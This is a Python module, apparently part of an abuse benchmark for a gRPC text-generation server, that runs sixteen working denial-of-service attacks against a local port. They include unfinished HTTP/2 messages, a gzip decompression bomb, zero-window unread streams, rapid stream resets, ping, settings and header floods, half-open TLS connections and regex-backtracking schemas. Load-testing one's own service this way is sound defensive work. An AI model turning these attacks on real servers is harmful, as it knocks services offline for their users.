"""The attackers: `python -m benchmarks.abuse.attacks NAME PORT`, with tokens from standard input, until it is killed.

Each is a process of its own, so that what it takes is not the bystander's. It says "attacking" once it is under way.
"""

import asyncio
import contextlib
import gzip
import json
import socket
import sys
from collections.abc import Awaitable, Callable, Iterator, Sequence

import grpc
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.errors import ErrorCodes
from h2.events import ConnectionTerminated, StreamEnded, StreamReset
from h2.exceptions import H2Error
from h2.settings import SettingCodes

from benchmarks.abuse import frames
from dash_api.v1 import common_pb2, generation_pb2

MESSAGE_BYTES = (1 << 20) - 64
"""A message that is nearly as long as may be."""
_BOMB_BYTES = 256 << 20
_HOST = "127.0.0.1"
Tokens = Sequence[str | None]


class _Caller:
    """One connection with calls that send all of a message but its last byte, and begin again when they are refused."""

    def __init__(
        self, path: str, token: str | None, num_streams: int, first: bytes, encoding: str | None = None
    ) -> None:
        self._headers = frames.call_headers(path, token, encoding)
        self._num_streams = num_streams
        self._message = first

    async def run(self, port: int) -> None:
        while True:
            with contextlib.suppress(OSError, H2Error):
                await self._connect(port)
            await asyncio.sleep(0.2)

    async def _connect(self, port: int) -> None:
        self._http = H2Connection(H2Configuration(client_side=True))
        self._left: dict[int, int] = {}
        """The bytes that each call has sent."""
        reader, writer = await asyncio.open_connection(_HOST, port)
        self._http.initiate_connection()
        writer.write(self._http.data_to_send())
        while data := await reader.read(1 << 16):
            for event in self._http.receive_data(data):
                if isinstance(event, StreamEnded | StreamReset):
                    self._left.pop(event.stream_id, None)
                elif isinstance(event, ConnectionTerminated) and event.error_code != ErrorCodes.NO_ERROR:
                    return
            self._send()
            writer.write(self._http.data_to_send())
            await writer.drain()
        writer.close()

    def _send(self) -> None:
        most = min(self._num_streams, self._http.remote_settings.max_concurrent_streams)
        for _ in range(min(16, most - len(self._left))):
            stream = self._http.get_next_available_stream_id()
            self._http.send_headers(stream, self._headers)
            self._left[stream] = 0
        for stream, sent in list(self._left.items()):
            room = min(self._http.local_flow_control_window(stream), self._http.max_outbound_frame_size)
            piece = self._message[sent : sent + room]
            if piece:
                with contextlib.suppress(H2Error):
                    self._http.send_data(stream, piece)
                    self._left[stream] = sent + len(piece)


async def _unfinished(port: int, path: str, tokens: Tokens, num_streams: int) -> None:
    message = frames.prefixed(b"\x0a" * MESSAGE_BYTES, MESSAGE_BYTES + 1)
    await _all(_Caller(path, token, num_streams, message).run(port) for token in tokens)


async def unfinished_without_token(port: int, tokens: Tokens) -> None:
    """1,000 calls of five connections, all but the last byte of each message."""
    await _unfinished(port, frames.GENERATE, [None] * 5, 200)


async def unfinished_with_token(port: int, tokens: Tokens) -> None:
    """The same by callers who are known."""
    await _unfinished(port, frames.GENERATE, tokens, 200)


async def unfinished_health(port: int, tokens: Tokens) -> None:
    """The same to a service that asks for no token."""
    await _unfinished(port, frames.HEALTH, [None] * 5, 200)


async def unfinished_sessions(port: int, tokens: Tokens) -> None:
    """1,000 sessions with an unfinished message each."""
    await _unfinished(port, frames.SESSION, tokens, 200)


async def compressed(port: int, tokens: Tokens) -> None:
    """Messages of a quarter of a gigabyte, compressed to as much as a message may have."""
    bomb = frames.prefixed(gzip.compress(bytes(_BOMB_BYTES)), is_compressed=True)
    await _all(_Caller(frames.GENERATE, token, 8, bomb, "gzip").run(port) for token in tokens)


async def many_messages(port: int, tokens: Tokens) -> None:
    """Chats of as many empty messages as fit, and of as many as are read, as calls and in sessions."""

    def chat(number: int) -> generation_pb2.GenerationParameters:
        messages = [common_pb2.ChatMessage()] * number
        return generation_pb2.GenerationParameters(chat=common_pb2.ChatPrompt(messages=messages))

    call = generation_pb2.GenerateRequest(parameters=chat(MESSAGE_BYTES // 2 - 64)).SerializeToString()
    stream = generation_pb2.StreamGenerateRequest(parameters=chat(16_000))

    async def calls(channel: grpc.aio.Channel, token: str | None) -> None:
        while True:
            with contextlib.suppress(grpc.aio.AioRpcError):
                await channel.unary_unary(frames.GENERATE)(call, metadata=_bearer(token))

    async def sessions(channel: grpc.aio.Channel, token: str | None) -> None:
        while True:
            with contextlib.suppress(grpc.aio.AioRpcError, asyncio.InvalidStateError):
                session = channel.stream_stream(frames.SESSION)(metadata=_bearer(token))
                for number in range(1000):
                    request = generation_pb2.SessionRequest(number=number, generate=stream)
                    await session.write(request.SerializeToString())
                    await session.read()

    channels = [_channel(port) for _ in tokens]
    pairs = list(zip(channels, tokens, strict=True))
    await _all([*(calls(*pair) for pair in pairs), *(sessions(*pair) for pair in pairs)])


async def never_read(port: int, tokens: Tokens) -> None:
    """Streams of all callers that nobody reads."""
    request = generation_pb2.StreamGenerateRequest(parameters=generation_pb2.GenerationParameters(text="hello"))
    request.parameters.stopping.max_new_tokens = 20
    data = frames.prefixed(request.SerializeToString())

    async def caller(token: str | None) -> None:
        while True:
            with contextlib.suppress(OSError, H2Error):
                http = H2Connection(H2Configuration(client_side=True))
                http.initiate_connection()
                http.update_settings({SettingCodes.INITIAL_WINDOW_SIZE: 0})
                reader, writer = await asyncio.open_connection(_HOST, port)
                headers = frames.call_headers(frames.STREAM_GENERATE, token)
                for _ in range(100):
                    stream = http.get_next_available_stream_id()
                    http.send_headers(stream, headers)
                    http.send_data(stream, data, end_stream=True)
                while True:
                    writer.write(http.data_to_send())
                    received = await reader.read(1 << 16)
                    if not received:
                        break
                    http.receive_data(received)
            await asyncio.sleep(0.2)

    await _all(map(caller, tokens))


async def cancelled_grammars(port: int, tokens: Tokens) -> None:
    """Large schemas, each cancelled as soon as it was sent."""
    properties = {f"field{number}": {"type": "string", "pattern": "[a-z]{1,40}"} for number in range(400)}
    request = _with_schema({"type": "object", "properties": properties, "required": list(properties)})

    async def caller(token: str | None) -> None:
        channel = _channel(port)
        while True:
            calls = [channel.unary_unary(frames.GENERATE)(request, metadata=_bearer(token)) for _ in range(8)]
            await asyncio.sleep(0.02)
            for call in calls:
                call.cancel()

    await _all(map(caller, tokens))


async def deadly_grammars(port: int, tokens: Tokens) -> None:
    """Schemas of two kilobytes whose check takes minutes, and all memory there is."""
    patterns = [{"type": "string", "pattern": f"(a{number}|b)*x(a|b){{{number + 10}}}"} for number in range(40)]
    request = _with_schema({"allOf": patterns})

    async def caller(token: str | None) -> None:
        channel = _channel(port)
        while True:
            with contextlib.suppress(grpc.aio.AioRpcError):
                await channel.unary_unary(frames.GENERATE)(request, metadata=_bearer(token))

    await _all(map(caller, tokens))


async def silent_connections(port: int, tokens: Tokens) -> None:
    """A thousand connections that say nothing."""

    async def one() -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, _ = await asyncio.open_connection(_HOST, port)
                await reader.read()
            await asyncio.sleep(1)

    await _all(one() for _ in range(1000))


async def half_open_tls(port: int, tokens: Tokens) -> None:
    """A thousand connections to a port with TLS that begin to shake hands, or do not."""
    hello = bytes.fromhex("1603010200010001fc0303")

    async def one(number: int) -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(_HOST, port)
                writer.write(hello[: number % len(hello)])
                await reader.read()
            await asyncio.sleep(1)

    await _all(map(one, range(1000)))


async def idle_connections(port: int, tokens: Tokens) -> None:
    """A thousand connections that greet and then say nothing."""

    async def one() -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection(_HOST, port)
                writer.write(frames.PREFACE + frames.frame(frames.SETTINGS, 0, 0))
                while await reader.read(1 << 16):
                    pass
            await asyncio.sleep(1)

    await _all(one() for _ in range(1000))


async def _flood(port: int, pieces: Callable[[], Iterator[bytes]]) -> None:
    def one() -> None:
        while True:
            with contextlib.suppress(OSError), socket.create_connection((_HOST, port)) as connection:
                connection.settimeout(1)
                for piece in pieces():
                    connection.sendall(piece)

    await asyncio.gather(*(asyncio.to_thread(one) for _ in range(2)))


async def flood_of_pings(port: int, tokens: Tokens) -> None:
    """Pings without an end."""
    await _flood(port, lambda: frames.endless(frames.PING, bytes(8)))


async def flood_of_settings(port: int, tokens: Tokens) -> None:
    """Settings without an end."""
    await _flood(port, lambda: frames.endless(frames.SETTINGS, b""))


async def endless_headers(port: int, tokens: Tokens) -> None:
    """Headers without an end."""
    await _flood(port, frames.endless_headers)


async def flood_of_resets(port: int, tokens: Tokens) -> None:
    """Requests, each cancelled at once."""
    message = generation_pb2.GenerateRequest(parameters=generation_pb2.GenerationParameters(text="a"))
    await _flood(port, lambda: frames.opened_and_reset_streams(message.SerializeToString(), 20_000))


ATTACKS: dict[str, Callable[[int, Tokens], Awaitable[None]]] = {
    attack.__name__.replace("_", "-"): attack
    for attack in (
        unfinished_without_token,
        unfinished_with_token,
        unfinished_health,
        unfinished_sessions,
        compressed,
        many_messages,
        never_read,
        cancelled_grammars,
        deadly_grammars,
        silent_connections,
        half_open_tls,
        idle_connections,
        flood_of_pings,
        flood_of_settings,
        endless_headers,
        flood_of_resets,
    )
}


async def _all(tasks: "Iterator[Awaitable[None]] | Sequence[Awaitable[None]]") -> None:
    await asyncio.gather(*tasks)


def _channel(port: int) -> grpc.aio.Channel:
    """A channel with a connection of its own."""
    return grpc.aio.insecure_channel(f"{_HOST}:{port}", options=[("grpc.use_local_subchannel_pool", 1)])


def _with_schema(schema: dict[str, object]) -> bytes:
    """Returns a request whose output has to keep to the schema."""
    constraint = generation_pb2.Constraint(json_schema=json.dumps(schema))
    parameters = generation_pb2.GenerationParameters(text="a", constraint=constraint)
    return generation_pb2.GenerateRequest(parameters=parameters).SerializeToString()


def _bearer(token: str | None) -> tuple[tuple[str, str], ...]:
    return () if token is None else (("authorization", f"Bearer {token}"),)


def main() -> None:
    """Attacks until it is killed."""
    name, port = sys.argv[1:]
    tokens = json.loads(sys.stdin.readline())
    print("attacking", flush=True)
    asyncio.run(ATTACKS[name](int(port), tokens))  # type: ignore[arg-type]


if __name__ == "__main__":
    main()
